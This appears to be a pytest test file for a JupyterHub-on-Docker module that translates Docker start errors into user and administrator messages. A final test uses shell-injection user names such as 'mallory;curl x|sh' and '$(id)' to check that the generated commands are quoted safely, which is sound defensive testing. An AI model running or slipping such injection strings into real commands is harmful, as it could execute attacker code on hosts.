"""Every error of a start becomes a sentence for its person and a line for the administrator."""

from dataclasses import replace
from types import SimpleNamespace

import pytest
import requests
from docker.errors import APIError, DockerException

from jupyterhub_on_docker.servers.failures import Circumstances, explain, explain_text, not_answering

WHERE = Circumstances(
    stack="dev",
    image="sha256:1234",
    start_timeout=60,
    http_timeout=30,
    extra_config="/etc/jupyterhub/extra_config.py",
)


def refused(status, message):
    response = SimpleNamespace(status_code=status, url="http://docker-filter:2375/v1.41/x", reason="")
    return APIError("error", response=response, explanation=message)


# What engines and the filter answer, word for word, and what has to be in both messages.
ANSWERS = [
    (404, "No such image: sha256:1234", "The image that your server is started from is missing", "./up dev"),
    (
        404,
        "no such image: sha256:1234: not found",
        "is missing",
        "no such image: sha256:1234. It was removed",
    ),
    (
        403,
        "docker-filter: HostConfig.CapDrop: missing; HostConfig.ShmSize: unknown key",
        "Docker filter does not allow",
        "HostConfig.ShmSize: unknown key. Remove what hub.extraConfig sets",
    ),
    (403, "docker-filter: image 'python:3' is not on the list", "not one of this hub's", "notebook.profiles"),
    (
        503,
        "docker-filter: the firewall is not ready: it is running and starting",
        "firewall",
        "logs firewall",
    ),
    (503, "docker-filter: no answer from the engine: [Errno 2]", "Docker does not answer", "./hub check"),
    (
        500,
        "Head https://registry.example.org/v2/x: unauthorized: authentication required",
        "registry does not allow",
        "Log in to the registry",
    ),
    (
        500,
        "manifest for example/x:9 not found: manifest unknown",
        "could not be pulled",
        "way to its registry",
    ),
    (
        500,
        "error creating overlay mount to /var/lib/docker/overlay2/x: no space left on device",
        "disk of the server's host is full",
        "docker system df",
    ),
    (
        400,
        'OCI runtime create failed: exec: "jupyterhub-singleuser": executable file not found in $PATH',
        "does not have the program",
        "notebook.command",
    ),
    (500, 'could not select device driver "" with capabilities: [[gpu]]', "No GPU", "NVIDIA"),
    (
        500,
        "error while mounting volume '/var/lib/docker/volumes/x/_data': failed to mount local volume: "
        "mount //nas/x:/var/lib/docker/volumes/x/_data, data: username=hub,password=hunter2: not permitted",
        "A folder of your server could not be mounted",
        "failed to mount local volume",
    ),
    (
        400,
        'invalid mount config for type "bind": bind source path does not exist: /srv/x',
        "folder",
        "storage",
    ),
    (
        500,
        "driver failed programming external connectivity on endpoint x: "
        "Bind for 0.0.0.0:8888 failed: port is already allocated",
        "A port",
        "hub.extraConfig publishes",
    ),
    (404, "network jh-notebooks not found", "network of the servers", "./up dev"),
    (
        500,
        "Could not attach to network: no available IPv4 addresses on this pool",
        "network",
        "larger subnet",
    ),
    (
        500,
        "failed to create shim: fork/exec /usr/bin/containerd-shim: resource temporarily unavailable",
        "no memory or processes left",
        "free -m",
    ),
    (400, "Range of CPUs is from 0.01 to 2.00, as there are only 2 CPUs available", "do not fit", "limits"),
    (409, "Conflict. The name /jh-user-a is already in use by container 12", "not stopped yet", "remove"),
    (500, "something else", "Docker could not start your server", "something else"),
]


@pytest.mark.parametrize(("status", "message", "sentence", "detail"), ANSWERS)
def test_what_docker_answers(status, message, sentence, detail):
    reason = explain(refused(status, message), WHERE)
    assert sentence in reason.sentence
    assert detail in reason.detail


@pytest.mark.parametrize(("status", "message"), [answer[:2] for answer in ANSWERS])
def test_a_person_reads_what_to_do_and_nothing_of_the_host(status, message):
    reason = explain(refused(status, message), WHERE)
    assert reason.sentence.endswith(("administrator.", "minute."))
    assert not any(part in reason.sentence for part in ("/", "sha256", "jh-", "{", "0x"))


@pytest.mark.parametrize(("status", "message"), [answer[:2] for answer in ANSWERS])
def test_an_administrator_reads_one_line_without_secrets(status, message):
    reason = explain(refused(status, message), WHERE)
    assert "\n" not in reason.detail
    assert "hunter2" not in reason.detail
    assert "{" not in reason.detail


@pytest.mark.parametrize(
    ("text", "sentence"),
    [
        ("no suitable node (insufficient resources on 3 nodes)", "No node has enough memory"),
        (
            "no suitable node (scheduling constraints not satisfied on 2 nodes)",
            "No node can take your server",
        ),
        ("rejected: No such image: registry.example.org/n@sha256:12", "is missing"),
        ("preparing: invalid mount config for type bind: bind source path does not exist", "folder"),
    ],
)
def test_what_a_swarm_says_of_a_task(text, sentence):
    assert sentence in explain_text(text, WHERE).sentence


@pytest.mark.parametrize(
    "error",
    [requests.ConnectionError("refused"), requests.ReadTimeout("late"), DockerException("no version")],
)
def test_docker_that_cannot_be_reached(error):
    reason = explain(error, WHERE)
    assert reason.sentence.startswith("The hub cannot reach Docker now. Try again")
    assert "./hub check --stack dev" in reason.detail


def test_a_start_that_takes_too_long():
    assert "did not start within 60 s" in explain(TimeoutError(), WHERE).sentence
    assert "servers.startTimeout" in explain(TimeoutError(), WHERE).detail
    assert "did not answer within 30 s" in not_answering(WHERE).sentence
    assert "jupyterhub-singleuser" in not_answering(WHERE).detail


def test_a_hook_of_the_extra_configuration_is_named_with_its_line():
    names = {}
    exec(compile("def hook(spawner):\n    return {}['team']\n", WHERE.extra_config, "exec"), names)  # noqa: S102
    with pytest.raises(KeyError) as raised:
        names["hook"](None)
    reason = explain(raised.value, WHERE)
    assert "an error in this hub's own configuration" in reason.sentence
    assert reason.detail == "hub.extraConfig: line 2: KeyError: 'team'"
    where = replace(WHERE, extra_config="/etc/jupyterhub")
    assert explain(raised.value, where).detail == "hub.extraConfig: extra_config.py: line 2: KeyError: 'team'"


def test_any_other_error_is_told_without_its_text():
    reason = explain(RuntimeError("secret of /srv/x"), WHERE)
    assert reason.sentence.startswith("Your server did not start because of an error in the hub.")
    assert "secret of" not in reason.sentence
    assert "RuntimeError: secret of /srv/x. See the traceback: ./hub logs hub --stack dev" in reason.detail


def test_a_hub_that_does_not_know_its_stack_names_none():
    assert "./hub check" in explain(requests.ConnectionError("x"), Circumstances()).detail
    assert "--stack" not in explain(requests.ConnectionError("x"), Circumstances()).detail


@pytest.mark.parametrize(
    ("name", "command"),
    [
        ("alice", "./hub logs alice --previous --stack dev"),
        ("mallory;curl x|sh", "./hub logs 'mallory;curl x|sh' --previous --stack dev"),
        ("$(id)'", """./hub logs '$(id)'"'"'' --previous --stack dev"""),
        ("--help", "./hub logs --previous --stack dev -- --help"),
    ],
)
def test_no_name_is_a_command_of_the_shell_that_it_is_pasted_into(name, command):
    assert WHERE.logs_of(name) == command
